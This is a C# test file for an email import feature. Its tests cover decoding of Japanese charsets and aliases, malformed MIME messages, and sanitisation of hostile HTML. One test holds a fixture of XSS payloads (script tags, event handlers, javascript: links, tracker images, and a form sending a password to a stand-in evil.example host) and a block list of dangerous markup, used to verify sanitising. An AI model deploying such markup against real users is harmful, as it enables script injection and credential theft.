using System.Text;
using Digima.Core.MailImport;

namespace Digima.Tests.Infrastructure.MailImport;

/// <summary>Japanese encodings (R26), hostile HTML (R27) and malformed MIME: what the import
/// stores from mail as real clients and spammers write it.</summary>
public sealed class ImportedContentTests : IAsyncLifetime
{
    private ImportScenario _s = default!;
    private string _customer = "";

    public async Task InitializeAsync()
    {
        _s = await ImportScenario.CreateAsync("content");
        _customer = (await _s.AddCustomerAsync("文字")).Email;
    }

    public async Task DisposeAsync() => await _s.DisposeAsync();

    [Theory]
    [InlineData("ISO-2022-JP")]
    [InlineData("Shift_JIS")]
    [InlineData("EUC-JP")]
    [InlineData("UTF-8")]
    public async Task Sync_JapaneseCharset_SubjectSenderAndBodyDecoded(string charset)
    {
        var id = RawMail.NewId();
        var from = $"{RawMail.Word(charset, "山田 太郎")} <{_customer}>";
        var mail = RawMail.Create(from, _s.Rep.Email, RawMail.Word(charset, "【ご確認】お見積り①の件"), id)
            .Text(charset, "山田様\nいつもお世話になっております。～ソフトバンク髙橋です。");

        await _s.AppendAsync("INBOX", mail);
        await _s.SyncAsync();

        var stored = await _s.StoredAsync(id);
        Assert.Equal("【ご確認】お見積り①の件", stored.Subject);
        Assert.Equal("山田 太郎", stored.FromName);
        Assert.Contains("いつもお世話になっております。", stored.BodyText, StringComparison.Ordinal);
        Assert.StartsWith("山田様 いつもお世話になっております。", stored.Snippet, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("windows-31j", "shift_jis")]
    [InlineData("Windows-31J", "shift_jis")]
    [InlineData("cp932", "shift_jis")]
    [InlineData("ms932", "shift_jis")]
    [InlineData("x-sjis", "shift_jis")]
    [InlineData("shift-jis", "shift_jis")]
    [InlineData("sjis", "shift_jis")]
    [InlineData("x-euc-jp", "euc-jp")]
    [InlineData("eucjp", "euc-jp")]
    [InlineData("euc_jp", "euc-jp")]
    [InlineData("csISO2022JP", "iso-2022-jp")]
    [InlineData("iso2022jp", "iso-2022-jp")]
    [InlineData("jis", "iso-2022-jp")]
    [InlineData("x-windows-iso2022jp", "iso-2022-jp")]
    public async Task Sync_JapaneseCharsetAlias_BodyAndSubjectDecoded(string label, string encoding)
    {
        var id = RawMail.NewId();
        var subject = $"=?{label}?B?{Convert.ToBase64String(Encoding.GetEncoding(encoding).GetBytes("別名の件名"))}?=";
        var body = encoding == "shift_jis" ? "いつもお世話になっております。①髙橋です。" : "いつもお世話になっております。高橋です。";
        var mail = RawMail.Create(_customer, _s.Rep.Email, subject, id).TextLabelled(label, encoding, body);

        await _s.AppendAsync("INBOX", mail);
        await _s.SyncAsync();

        var stored = await _s.StoredAsync(id);
        Assert.Equal("別名の件名", stored.Subject);
        Assert.Contains(body, stored.BodyText, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Sync_MultipartWhoseBoundaryNeverAppears_RawTextKept()
    {
        var id = RawMail.NewId();
        var mail = RawMail.Create(_customer, _s.Rep.Email, "boundary missing", id).Body("multipart/mixed; boundary=\"declared\"", """
            --other
            Content-Type: text/plain; charset=UTF-8

            境界が一度も現れない本文です。
            --other--
            """);

        await _s.AppendAsync("INBOX", mail);
        await _s.SyncAsync();

        var stored = await _s.StoredAsync(id);
        Assert.Contains("境界が一度も現れない本文です。", stored.BodyText, StringComparison.Ordinal);
        Assert.StartsWith("--other Content-Type: text/plain; charset=UTF-8 境界が一度も", stored.Snippet, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Sync_EightBitAndBrokenEncodedWordHeaders_Decoded()
    {
        var utf8Id = RawMail.NewId();
        var sjisId = RawMail.NewId();
        var splitId = RawMail.NewId();
        var utf8 = RawMail.Create(_customer, _s.Rep.Email, "x", utf8Id).HeaderBytes("Subject", Encoding.UTF8.GetBytes("生のUTF-8件名")).Text("UTF-8", "本文");
        var sjis = RawMail.Create(_customer, _s.Rep.Email, "x", sjisId).HeaderBytes("Subject", Encoding.GetEncoding("shift_jis").GetBytes("生のシフトJIS件名")).Text("Shift_JIS", "本文");
        // One character's UTF-8 bytes split over two encoded words, as some clients do.
        var bytes = Encoding.UTF8.GetBytes("分割された件名");
        var split = $"=?UTF-8?B?{Convert.ToBase64String(bytes[..4])}?= =?UTF-8?B?{Convert.ToBase64String(bytes[4..])}?=";
        var broken = RawMail.Create(_customer, _s.Rep.Email, split, splitId).Text("UTF-8", "本文");

        await _s.AppendAsync("INBOX", utf8, sjis, broken);
        await _s.SyncAsync();

        Assert.Equal("生のUTF-8件名", (await _s.StoredAsync(utf8Id)).Subject);
        Assert.Equal("生のシフトJIS件名", (await _s.StoredAsync(sjisId)).Subject);
        Assert.Equal("分割された件名", (await _s.StoredAsync(splitId)).Subject);
    }

    [Fact]
    public async Task Sync_HostileHtml_SanitizedAndRemoteImagesBlocked()
    {
        var id = RawMail.NewId();
        const string html = """
            <html><head><script>alert('head')</script></head><body onload="alert(0)">
            <p style="color: red; background-image: url(https://tracker.example/bg.png)">ご案内</p>
            <script>alert(1)</script>
            <img src="https://tracker.example/open.gif?u=1" onerror="alert(2)" alt="logo">
            <a href="javascript:alert(3)">click</a> <a href="https://example.com/ok">ok</a>
            <iframe src="https://evil.example/"></iframe>
            <form action="https://evil.example/steal"><input name="pw"><button>送信</button></form>
            <svg onload="alert(4)"></svg>
            </body></html>
            """;
        var mail = RawMail.Create(_customer, _s.Rep.Email, "html", id).Body("multipart/alternative; boundary=\"b1\"", $"""
            --b1
            Content-Type: text/plain; charset=UTF-8

            ご案内（テキスト）
            --b1
            Content-Type: text/html; charset=UTF-8

            {html}
            --b1--
            """);

        await _s.AppendAsync("INBOX", mail);
        await _s.SyncAsync();

        var stored = await _s.StoredAsync(id);
        var safe = stored.BodyHtml!;
        foreach (var bad in new[] { "<script", "alert", "onerror", "onload", "javascript:", "<iframe", "<form", "<input", "<button", "tracker.example/bg.png", " src=" })
        {
            Assert.DoesNotContain(bad, safe, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("data-src=\"https://tracker.example/open.gif?u=1\"", safe, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.com/ok\"", safe, StringComparison.Ordinal);
        Assert.Contains("ご案内", safe, StringComparison.Ordinal);
        Assert.Equal("ご案内（テキスト）", stored.Snippet);
    }

    [Fact]
    public async Task Sync_MalformedMessages_ReadableOnesImportedAndSyncCompletes()
    {
        var noBoundaryEnd = RawMail.Create(_customer, _s.Rep.Email, "no closing boundary").Body("multipart/mixed; boundary=\"zz\"", """
            --zz
            Content-Type: text/plain; charset=UTF-8

            閉じ境界なし
            """);
        var wrongBoundary = RawMail.Create(_customer, _s.Rep.Email, "wrong boundary").Body("multipart/mixed; boundary=\"declared\"", """
            --other
            Content-Type: text/plain; charset=UTF-8

            境界違い
            --other--
            """);
        var unknownCharset = RawMail.Create(_customer, _s.Rep.Email, "unknown charset").Body("text/plain; charset=x-no-such-charset", "plain ascii text");
        var nested = RawMail.Create(_customer, _s.Rep.Email, "nested").Body("multipart/mixed; boundary=\"n1\"", $"""
            --n1
            Content-Type: text/plain; charset=UTF-8

            転送します

            --n1
            Content-Type: message/rfc822

            From: other@customer.test
            Subject: {RawMail.Word("UTF-8", "元のメール")}
            Content-Type: text/plain; charset=UTF-8

            元の本文
            --n1
            Content-Type: application/pdf; name="見積書.pdf"
            Content-Disposition: attachment; filename="mitsumori.pdf"
            Content-Transfer-Encoding: base64

            JVBERi0xLjQK
            --n1
            Content-Type: text/plain

            --n1--
            """);
        var noDate = RawMail.Create(_customer, _s.Rep.Email, "no date").Without("Date").Text("UTF-8", "日付なし");
        var noFrom = RawMail.Create("", _s.Rep.Email, "no from").Header("Cc", _customer).Text("UTF-8", "差出人なし");
        var arrived = new DateTimeOffset(2026, 11, 20, 3, 0, 0, TimeSpan.Zero);

        await _s.AppendAsync("INBOX", arrived, noBoundaryEnd, wrongBoundary, unknownCharset, nested, noDate, noFrom);
        var result = await _s.SyncAsync();

        Assert.Equal(MailboxSyncOutcome.Synced, result.Outcome);
        var stored = (await _s.StoredAsync()).ToDictionary(m => m.Subject);
        Assert.Contains("閉じ境界なし", stored["no closing boundary"].BodyText, StringComparison.Ordinal);
        Assert.Contains("境界違い", stored["wrong boundary"].BodyText, StringComparison.Ordinal);
        Assert.Contains("plain ascii text", stored["unknown charset"].BodyText, StringComparison.Ordinal);
        Assert.Contains("転送します", stored["nested"].BodyText, StringComparison.Ordinal);
        Assert.Contains(stored["nested"].Attachments, a => a.Name == "元のメール.eml");
        Assert.Contains(stored["nested"].Attachments, a => a.Name == "mitsumori.pdf" && a.Size == 9);
        Assert.Equal(arrived, stored["no date"].MailDate);
        Assert.Equal("", stored["no from"].FromAddress);
    }
}
